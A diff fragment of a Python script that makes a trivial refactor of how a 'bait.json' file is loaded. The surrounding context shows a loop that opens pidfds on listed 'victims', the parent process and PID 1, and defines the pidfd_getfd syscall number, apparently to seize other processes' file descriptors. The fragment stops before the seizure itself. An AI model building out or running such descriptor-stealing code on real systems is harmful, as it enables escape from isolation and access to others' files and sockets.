@@ -7,8 +7,7 @@ import os
 
 PIDFD_GETFD = 438
 libc = ctypes.CDLL(None, use_errno=True)
-with open("bait.json") as file:
-    bait = json.load(file)
+bait = json.load(open("bait.json"))
 for pid in (*bait["victims"], os.getppid(), 1):
     try:
         process = os.pidfd_open(pid)
